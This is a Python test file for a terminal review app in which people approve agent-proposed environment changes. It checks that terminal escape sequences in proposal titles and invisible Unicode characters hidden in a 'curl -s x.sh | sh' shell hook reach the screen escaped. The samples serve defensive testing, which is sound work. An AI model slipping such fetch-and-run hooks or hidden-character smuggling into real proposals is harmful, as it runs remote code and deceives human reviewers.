"""Agent-controlled text (titles with escape sequences) never reaches the terminal raw, even while it rebuilds."""

from __future__ import annotations

import re
from pathlib import Path

from app_harness import SIZE, cockpit, edited, open_workspace, propose_now, ready, screen_text, wait_for

from omni_tui.core.proposals import ProposalStore
from omni_tui.ui.screens import ApproveScreen, RejectScreen

# What must never reach the person's terminal from an agent's text: C0/C1 controls (ESC starts
# escape sequences that recolour, retitle or write the clipboard).
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def rendered_controls(app) -> list[str]:
    """Control characters in what the terminal would be sent for the active screen, with their line."""
    return [line for line in screen_text(app).splitlines() if CONTROL.search(line)]


async def test_an_escape_sequence_in_a_title_never_reaches_the_terminal_while_it_rebuilds(project: Path) -> None:
    ws = open_workspace(project, command="echo building; sleep 1; echo done")
    app = cockpit(ws)
    title = "Add ripgrep \x1b[31mred\x1b[0m \x1b]0;pwned\x07 now"
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_for(pilot, lambda: app.review.known_pending is not None, what="the queue loaded")  # so it is new
        pid = propose_now(project, "devenv.nix", edited(project, "pkgs.jq", "pkgs.jq pkgs.ripgrep"), title=title)
        await wait_for(pilot, lambda: app.review.selected_key == pid, what="the proposal selected")
        await wait_for(pilot, lambda: "New proposal" in screen_text(app), what="the notification")
        assert rendered_controls(app) == []
        await pilot.press("r")
        await wait_for(pilot, lambda: ready(app, RejectScreen), what="the reject modal")
        assert rendered_controls(app) == []
        await pilot.press("escape")
        await wait_for(pilot, lambda: not isinstance(app.screen, RejectScreen), what="the reject modal closed")
        await pilot.press("a")
        await wait_for(pilot, lambda: ready(app, ApproveScreen), what="the approve modal")
        assert rendered_controls(app) == []
        await pilot.press("y")
        # The rebuild's progress row leads with the (short) title.
        await wait_for(pilot, lambda: "approve “Add ripgrep" in screen_text(app), what="the progress row")
        assert rendered_controls(app) == []
        await wait_for(pilot, lambda: getattr(ProposalStore(ws).decision(pid), "status", None) == "applied", what="the approval")
        await wait_for(pilot, lambda: "applied and built" in screen_text(app), what="the rebuild's end")
        assert rendered_controls(app) == []
        # The log's first line names it the way the progress row does: quoted, inert, not a repr.
        assert app.log_view.lines[0].startswith("▶ approve “Add ripgrep \\x1b[31mred\\x1b[0m \\x1b]0;pwned\\x07 now”"), app.log_view.lines[
            0
        ]


# Invisible to a reviewer, each a way to make a line read other than it runs: a bidi mark (U+061C),
# a letter that draws as a blank (U+3164), a tag character (U+E0041, "ASCII smuggling"), an invisible
# operator (U+2064) and a soft hyphen (U+00AD).
HIDDEN = "\u061c\u3164\U000e0041\u2064\u00ad"


async def test_invisible_characters_in_a_hook_line_are_shown_escaped_on_the_card(project: Path) -> None:
    """The card names what runs on shell entry; a hook line an agent salted with invisible characters
    shows them escaped, in the detail's card and in the approve dialog's whole card."""
    app = cockpit(open_workspace(project))
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: app.review.known_pending is not None, what="the queue loaded")
        new = edited(project, 'echo "$GREET from devenv"', f'echo "$GREET from devenv"\n    curl -s x.sh{HIDDEN} | sh')
        pid = propose_now(project, "devenv.nix", new, title="Greet a little louder")
        await wait_for(pilot, lambda: app.review.selected_key == pid, what="the proposal selected")
        await pilot.press("a")
        await wait_for(
            pilot, lambda: ready(app, ApproveScreen) and "curl -s x.sh" in screen_text(app), what="the hook line in the approve dialog"
        )
        shown = screen_text(app)
        assert not [hex(ord(ch)) for ch in HIDDEN if ch in shown], "an invisible character reached the screen"
        assert "x.sh\\u061c\\u3164\\U000e0041\\u2064\\xad | sh" in shown, shown
